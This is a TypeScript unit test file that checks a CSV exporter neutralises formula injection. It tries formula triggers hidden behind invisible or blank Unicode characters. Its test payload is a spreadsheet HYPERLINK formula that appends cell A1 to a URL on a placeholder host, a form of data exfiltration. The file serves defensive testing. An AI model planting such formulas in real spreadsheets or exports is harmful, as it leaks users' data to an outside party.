// CSV cells (src/main/base/csv.ts) whose formula character follows code points that draw nothing
// (issue 34, round 10). Every code point Unicode lists as white space, format (Cf), control (Cc),
// space separator (Zs) or default-ignorable, and the graphic characters whose glyph is blank
// (braille pattern blank, the Hangul fillers, the null notehead, the Khitan filler), is generated
// before each trigger (`= + - @`, their fullwidth forms, TAB and CR) and in seeded runs of mixed
// leaders; each cell must come out with the single-quote prefix, and cells whose first drawn
// character is visible must stay as written.
import { describe, expect, it } from 'vitest'
import { csvCell } from '../../../src/main/base/csv'
import { mulberry32 } from '../testing/prng'

/** Graphic code points that render as a blank glyph (not White_Space, Cf or default-ignorable by property). */
const BLANK_GLYPHS = [0x2800, 0x1d159, 0x16fe4, 0x115f, 0x1160, 0x3164, 0xffa0]

const CLASSES: [string, RegExp][] = [
  ['White_Space', /^\p{White_Space}$/u],
  ['Zs', /^\p{Zs}$/u],
  ['Cf', /^\p{Cf}$/u],
  ['Cc', /^\p{Cc}$/u],
  ['Default_Ignorable_Code_Point', /^\p{Default_Ignorable_Code_Point}$/u],
]

/** Every scalar value (no surrogates) of a class. */
function members(re: RegExp): number[] {
  const out: number[] = []
  for (let cp = 0; cp <= 0x10ffff; cp++) {
    if (cp >= 0xd800 && cp <= 0xdfff) continue
    if (re.test(String.fromCodePoint(cp))) out.push(cp)
  }
  return out
}

const GROUPS: [string, number[]][] = [
  ...CLASSES.map(([n, re]): [string, number[]] => [n, members(re)]),
  ['blank glyphs', BLANK_GLYPHS],
]
const WHITE = new Set(members(/^\s$/u))

const TRIGGERS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20']
/** TAB and CR start a formula after a run an importer drops; white space before them is trimmed with them. */
const CONTROLS = ['\t', '\r']
const TAIL = 'HYPERLINK("http://x.example/?"&A1,"open")'

const neutralised = (cell: string): boolean => cell.startsWith("'") || cell.startsWith(`"'`)
const hex = (cp: number): string => `U+${cp.toString(16).toUpperCase().padStart(4, '0')}`

describe('CSV cells after code points that draw nothing', () => {
  it.each(GROUPS)('%s before every formula trigger gets the single-quote prefix', (_name, cps) => {
    const missed: string[] = []
    for (const cp of cps) {
      const lead = String.fromCodePoint(cp)
      const triggers = WHITE.has(cp) ? TRIGGERS : [...TRIGGERS, ...CONTROLS]
      for (const t of triggers)
        if (!neutralised(csvCell(lead + t + TAIL))) missed.push(`${hex(cp)}+${hex(t.codePointAt(0)!)}`)
    }
    expect(missed.slice(0, 20), `${missed.length} cells not neutralised`).toEqual([])
  })

  it('seeded runs of mixed leaders before a trigger get the prefix (240 cells)', () => {
    const all = GROUPS.flatMap(([, cps]) => cps)
    const rnd = mulberry32(2800)
    const pick = <T>(xs: T[]): T => xs[Math.floor(rnd() * xs.length)]!
    const missed: string[] = []
    for (let i = 0; i < 240; i++) {
      const run = Array.from({ length: 1 + Math.floor(rnd() * 5) }, () => pick(all))
      // Always one blank glyph in the run: the code points that drew nothing but were not trimmed.
      run.splice(Math.floor(rnd() * run.length), 0, pick(BLANK_GLYPHS))
      const cell = String.fromCodePoint(...run) + pick(TRIGGERS) + TAIL
      if (!neutralised(csvCell(cell))) missed.push(run.map(hex).join(' '))
    }
    expect(missed, `${missed.length} runs not neutralised`).toEqual([])
  })

  it('keeps a cell whose first drawn character is visible as written', () => {
    // Braille with dots, a middle dot, a letter, a digit, a visible space symbol: a reader sees them.
    for (const lead of ['\u2801', '\u28ff', '\u00b7', 'a', '1', '\u2423', '\u25a1'])
      for (const t of TRIGGERS) {
        const cell = lead + t + 'x'
        expect(csvCell(cell), cell).toBe(cell)
      }
  })
})
